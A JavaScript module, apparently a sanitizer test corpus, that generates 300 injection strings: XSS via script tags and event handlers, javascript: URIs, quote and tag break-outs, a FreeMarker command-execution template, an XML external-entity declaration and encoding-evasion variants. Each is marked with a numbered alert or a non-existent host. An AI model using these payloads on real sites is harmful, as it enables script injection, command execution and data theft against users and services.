// Three hundred strings that would run a script, fetch something or break out of where they stand. Each calls alert
// with its own number, or fetches from a host that does not exist, so that a browser says which one it was.

const AWAY = 'http://away.invalid/';

/** What would do harm, given a call and an address. */
const HARM = [
  (c, a) => `<script>${c}</script>`,
  (c, a) => `<img src=x onerror=${c}>`,
  (c, a) => `<svg onload=${c}>`,
  (c, a) => `<svg><script>${c}</script></svg>`,
  (c, a) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c, a) => `<math><mtext><img src=x onerror=${c}></mtext></math>`,
  (c, a) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (c, a) => `<iframe src="javascript:${c}"></iframe>`,
  (c, a) => `<object data="${a}"></object>`,
  (c, a) => `<embed src="${a}">`,
  (c, a) => `<link rel=stylesheet href="${a}">`,
  (c, a) => `<link rel=prefetch href="${a}">`,
  (c, a) => `<meta http-equiv=refresh content="0;url=${a}">`,
  (c, a) => `<base href="${a}">`,
  (c, a) => `<img src="${a}">`,
  (c, a) => `<img srcset="${a} 2x">`,
  (c, a) => `<style>@import url(${a});*{background:url(${a})}</style>`,
  (c, a) => `<p style="background:url(${a})">x</p>`,
  (c, a) => `<a href="javascript:${c}" autofocus onfocus=${c}>x</a>`,
  (c, a) => `<a href="jav&#x09;ascript:${c}">x</a>`,
  (c, a) => `<form action="javascript:${c}"><input autofocus onfocus=${c}></form>`,
  (c, a) => `<details open ontoggle=${c}>x</details>`,
  (c, a) => `<video><source onerror=${c}></video>`,
  (c, a) => `<audio src="${a}" autoplay></audio>`,
  (c, a) => `<body onload=${c}>`,
  (c, a) => `<input onfocus=${c} autofocus>`,
  (c, a) => `<marquee onstart=${c}>x</marquee>`,
  (c, a) => `<template><script>${c}</script></template>`,
  (c, a) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c, a) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${c}</x:script>`,
  (c, a) => `<?xml-stylesheet type="text/xsl" href="${a}"?>`,
  (c, a) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${a}">]>&e;`,
  (c, a) => `javascript:${c}`,
  (c, a) => `data:text/html,<script>${c}</script>`,
  (c, a) => `vbscript:${c}`,
  (c, a) => `[x](javascript:${c})`,
  (c, a) => `![x](${a})`,
  (c, a) => `<${a}" onclick="${c}>`,
  (c, a) => `" onmouseover="${c}" autofocus onfocus="${c}" x="`,
  (c, a) => `' onmouseover='${c}' autofocus onfocus='${c}' x='`,
  (c, a) => `";${c};//`,
  (c, a) => `';${c};//`,
  (c, a) => `*/${c}/*`,
  (c, a) => `\`-${c}-\``,
  (c, a) => `\\";${c};//`,
  (c, a) => `"}]};${c};[{"x":"`,
  (c, a) => `\u2028${c}\u2028`,
  (c, a) => `\${${c}}`,
  (c, a) => `<#assign x="freemarker.template.utility.Execute"?new()>\${x("id")}<@x/>${c}`,
  (c, a) => `[#if true]\${.data_model}[/#if]${c}`,
  (c, a) => `{{constructor.constructor('${c}')()}}`,
  (c, a) => `%3Cscript%3E${c}%3C/script%3E`,
  (c, a) => `\\u003cscript\\u003e${c}\\u003c/script\\u003e`,
  (c, a) => `&lt;script&gt;${c}&lt;/script&gt;`,
  (c, a) => `&#60;img src=x onerror=${c}&#62;`,
  (c, a) => `\uff1cscript\uff1e${c}\uff1c/script\uff1e`,
  (c, a) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c, a) => `<img/src=x/onerror=${c}//`,
  (c, a) => `url(${a}) expression(${c})`,
  (c, a) => `//away.invalid/x`,
];

/** What would end the place in which the harm stands. */
const BEFORE = ['', '">', `'>`, '</script></style></title></textarea></noscript></svg></math>-->', ']]></text></TEI>--><![CDATA[x]]>'];

export const STRINGS = BEFORE.flatMap((before, b) =>
  HARM.map((harm, h) => before + harm(`alert(${b * HARM.length + h})`, AWAY + (b * HARM.length + h))));
